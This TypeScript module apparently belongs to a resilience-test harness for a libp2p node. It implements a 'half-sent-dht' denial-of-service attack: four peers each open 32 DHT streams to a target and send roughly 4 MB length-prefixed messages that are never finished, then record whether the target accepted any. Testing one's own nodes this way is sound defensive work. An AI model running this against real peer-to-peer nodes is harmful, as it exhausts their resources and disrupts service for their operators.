/** Row 8: DHT messages of the largest size that are never finished. */
import type { Attack } from './attack.ts'
import { finding } from './attack.ts'
import { varint } from './protobuf.ts'
import { DHT_PROTOCOL, dial, openStream, sendAll, stranger } from './stranger.ts'

const STRANGERS = 4
const STREAMS = 32
const ANNOUNCED_BYTES = 4_194_000
const SENT_BYTES = 4_100_000
const SEND_MS = 15_000

export const halfSentDht: Attack = {
  row: 8,
  name: 'half-sent-dht',
  against: ['secret', 'open'],
  async run({ victim, source, pressing }) {
    const strangers = await Promise.all(Array.from({ length: STRANGERS }, () => stranger(source)))
    try {
      const half = Buffer.concat([varint(ANNOUNCED_BYTES), Buffer.alloc(SENT_BYTES, 1)])
      let sent = 0
      const each = strangers.map(async (libp2p) => {
        const connection = await dial(libp2p, victim.address)
        const streams = await Promise.all(Array.from({ length: STREAMS }, () => openStream(connection, DHT_PROTOCOL)))
        for (const stream of streams) if (stream !== undefined && (await sendAll(stream, half, SEND_MS))) sent += 1
      })
      await Promise.allSettled(each)
      await pressing()
      return [finding(sent === 0, sent === 0 ? 'not one was taken' : `${sent} halves of 4 MB sent`)]
    } finally {
      for (const libp2p of strangers) await libp2p.stop()
    }
  },
}
